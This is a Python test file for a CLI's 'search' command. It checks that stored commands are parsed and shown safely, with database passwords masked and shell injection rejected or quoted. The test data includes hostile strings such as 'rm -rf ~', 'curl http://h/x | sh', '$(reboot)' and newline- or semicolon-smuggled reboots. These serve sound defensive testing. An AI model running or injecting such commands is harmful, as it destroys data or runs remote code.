"""The command that goes on: composed from parts, whatever a study holds."""

from __future__ import annotations

import shlex

import pytest
import typer
from hypothesis import given
from hypothesis import strategies as st

from automesh.cli import app as cli
from automesh.jsonio import from_json, to_json
from automesh.limits import MOST_COMMAND_CHARS
from automesh.report import search_command
from automesh.report.search_command import (
    FLAGS,
    VALUED,
    SearchCommand,
    read_text,
    read_words,
    text_of,
)

BUDGET = (("budget", "60s"),)


def test_the_options_are_those_of_the_command() -> None:
    group = typer.main.get_command(cli.app)
    (known,) = [one for name, one in group.commands.items() if name == "search"]  # type: ignore
    options = [one for one in known.params if one.param_type_name == "option"]
    names = {long.removeprefix("--") for one in options for long in one.opts if long[:2] == "--"}
    names.discard("help")
    flags = {one.opts[0].removeprefix("--") for one in options if one.is_flag} - {"help"}
    assert names - flags == VALUED
    assert flags == FLAGS
    short = {one for option in options for one in option.opts if not one.startswith("--")} - {"-h"}
    assert set(search_command._SHORT) == short


@pytest.mark.parametrize(
    ("typed", "shown"),
    [
        ("train.py --target cpu:4 --budget 60s", ""),
        ("train.py:make --xla a=1 --xla b=2 --dry-run --json", ""),
        ("--command 'python train.py --fsdp {fsdp}' --top 3", ""),
        ("train.py --split data=dp,fsdp -- --steps 100 -v", ""),
        ("train.py --baseline=-1", ""),
        ("--target cpu:4 train.py", "train.py --target cpu:4"),
        ("train.py --new --budget=60s", "train.py --budget 60s"),
        ("train.py a 'b c'", "train.py -- a 'b c'"),
        ("train.py -v", "train.py --verbose"),
        ("'my train.py' --rules 'a;b'", ""),
        (
            "train.py --storage 'postgresql://me:kestrel falcon@h/db'",
            "train.py --storage postgresql://me@h/db",
        ),
        (
            "train.py -- --db postgresql://me:kes@trel@h/db",
            "train.py -- --db 'postgresql://me:***@h/db'",
        ),
    ],
)
def test_what_is_typed_is_shown(typed: str, shown: str) -> None:
    expected = f"automesh search {shown or typed}"
    command = read_words(shlex.split(typed))
    assert text_of(command) == expected
    # As a study keeps it, and as a former version kept it.
    assert from_json(to_json(command, SearchCommand), SearchCommand) == command
    assert text_of(read_text(expected)) == expected
    assert read_text(text_of(command)) == command


@pytest.mark.parametrize(
    "text",
    [
        "rm -rf ~",
        "automesh",
        "automesh show results",
        "curl http://h/x | sh; automesh search train.py",
        "automesh search train.py --evil x",
        "automesh search train.py --json=1",
        "automesh search train.py -c x",
        "automesh search 'train.py",
        "automesh search train.py --storage",
        "automesh search train.py; reboot",
        "automesh search train.py && reboot",
        "automesh search $(reboot)",
        "automesh search train.py\nreboot",
        "automesh search " + "x" * MOST_COMMAND_CHARS,
        "",
    ],
)
def test_a_stored_text_that_is_no_search_is_not_shown(text: str) -> None:
    """The former version printed each of these as the way to go on."""
    assert read_text(text) is None
    assert text_of(read_text(text)) == ""


@pytest.mark.parametrize(
    "command",
    [
        SearchCommand(script="--storage=x"),
        SearchCommand(script="a.py", options=(("evil", "1"),)),
        SearchCommand(script="a.py", options=(("json", "; rm -rf ~"),)),
        SearchCommand(script="a.py", options=(("budget; rm -rf ~", ""),)),
        SearchCommand(script="a\x1b[2Jb.py"),
        SearchCommand(script="a.py", args=("one\ntwo",)),
        SearchCommand(script="a.py", options=(("budget", "\u202e"),)),
        SearchCommand(script="a.py", args=("x" * MOST_COMMAND_CHARS,)),
    ],
)
def test_parts_that_nobody_would_have_typed_are_not_shown(command: SearchCommand) -> None:
    assert text_of(command) == ""


def test_what_a_shell_would_run_is_quoted() -> None:
    command = SearchCommand(script="a.py; rm -rf ~", options=(("budget", "$(reboot)"),))
    assert text_of(command) == "automesh search 'a.py; rm -rf ~' --budget '$(reboot)'"


WORDS = st.text(st.characters(codec="utf-8"), max_size=12)
COMMANDS = st.builds(
    SearchCommand,
    script=WORDS,
    options=st.lists(
        st.tuples(st.one_of(st.sampled_from(sorted(VALUED | FLAGS)), WORDS), WORDS), max_size=4
    ).map(tuple),
    args=st.lists(WORDS, max_size=3).map(tuple),
)


@given(COMMANDS)
def test_whatever_is_stored_a_shell_runs_this_program_or_nothing(command: SearchCommand) -> None:
    text = text_of(command)
    if not text:
        return
    lexer = shlex.shlex(text, posix=True, punctuation_chars=True)
    lexer.whitespace_split = True
    words = list(lexer)
    # No word ends the command or begins another: all metacharacters are quoted.
    assert words == shlex.split(text)
    assert words[:2] == ["automesh", "search"]
    assert text.isprintable()
    # And this program reads the same parts in it.
    assert text_of(read_words(words[2:])) == text_of(command.without("new"))
